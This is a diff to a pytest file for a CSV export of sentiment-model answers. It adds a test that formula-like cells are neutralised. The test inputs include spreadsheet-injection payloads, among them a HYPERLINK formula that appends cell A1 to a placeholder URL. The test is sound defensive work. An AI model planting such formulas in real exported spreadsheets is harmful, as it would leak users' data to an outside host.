@@ -54,7 +54,7 @@ def test_every_row_with_a_text_gets_the_models_own_answer(
     assert [row["review"] for row in rows] == [text for text, _ in ROWS if text]
     assert [row["id"] for row in rows] == ["x", "y", "w"]
     for row, answer in zip(rows, model.answer([{"text": row["review"]} for row in rows]), strict=True):
-        assert row["answer"] == answer["label"]
+        assert row["answer"] == {"=glad": "'=glad", "sad": "sad"}[answer["label"]]
         assert float(row["probability"]) == pytest.approx(answer["probabilities"][answer["label"]], abs=1e-4)
         assert float(row["p(sad)"]) == pytest.approx(answer["probabilities"]["sad"], abs=1e-4)
     assert (said["rows"], said["answered"], said["skipped_rows"]) == (4, 3, 1)
@@ -62,6 +62,21 @@ def test_every_row_with_a_text_gets_the_models_own_answer(
     assert "no text" in Sentence.unpacked(said["skipped"][0][1])
     assert sum(said["counts"].values()) == 3
     assert said["columns"] == {"text": "review"}
+
+
+def test_no_cell_of_the_answers_is_a_formula_to_a_spreadsheet_and_json_is_as_it_was(
+    model: FineTunedModel, tmp_path: Path
+) -> None:
+    formulas = ['=HYPERLINK("http://x/"&A1,"the dog")', "@SUM(1+1) was nice", "-2+3 bad days", "\t=1+1 dog"]
+    with (tmp_path / "rows.csv").open("w", newline="", encoding="utf-8") as stream:
+        csv.writer(stream).writerows([("review", "=id"), *((text, "-1.5") for text in formulas)])
+    said = answer_file(model, tmp_path / "rows.csv", tmp_path / "out.csv", {"text": "review"})
+    rows = read(tmp_path / "out.csv")
+    assert [row["review"] for row in rows] == [f"'{text}" for text in formulas]
+    assert [row["'=id"] for row in rows] == ["-1.5"] * 4
+    assert {row["answer"] for row in rows} <= {"sad", "'=glad"}
+    assert set(said["counts"]) <= {"sad", "=glad"}
+    assert [text for text, _ in said["first"]] == [text.strip() for text in formulas]
 
 
 def test_a_column_is_the_one_that_is_named_else_the_one_that_was_taught(
